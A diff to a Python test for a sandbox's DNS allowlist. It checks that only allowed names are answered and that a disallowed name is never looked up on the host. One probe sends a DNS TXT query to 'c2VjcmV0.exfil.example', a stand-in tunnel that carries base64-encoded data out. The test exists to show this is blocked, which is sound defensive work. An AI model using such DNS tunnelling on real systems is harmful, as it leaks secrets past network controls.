@@ -100,13 +100,24 @@ async def test_spoofed_address_reaches_only_the_allowed_server(servers):
 
 
 async def test_dns_answers_allowed_names_only(servers):
+    """Only allowed names are answered; a disallowed one (a TXT tunnel's) is never even
+    looked up on the host: nothing of it leaves."""
     engine, _, _ = servers
     sb = await engine.create(network={"allow": ["good.test"]})
+    looked_up: list[str] = []
+    real = engine.net.resolve
+
+    async def resolve(name: str) -> list[str]:
+        looked_up.append(name)
+        return await real(name)
+
+    engine.net.resolve = resolve
     got = await probe(engine, sb.id, a='dns("good.test")', no='dns("bad.test")',
                       txt='dns("c2VjcmV0.exfil.example", 16)', aaaa='dns("good.test", 28)')
     assert got["a"] == [0, 1]
     assert got["no"] == [3, 0] and got["txt"] == [3, 0]  # NXDOMAIN
     assert got["aaaa"] == [0, 0]  # no IPv6: an empty answer
+    assert set(looked_up) == {"good.test"}
 
 
 async def test_ipv6_and_udp_refused_fast(servers):
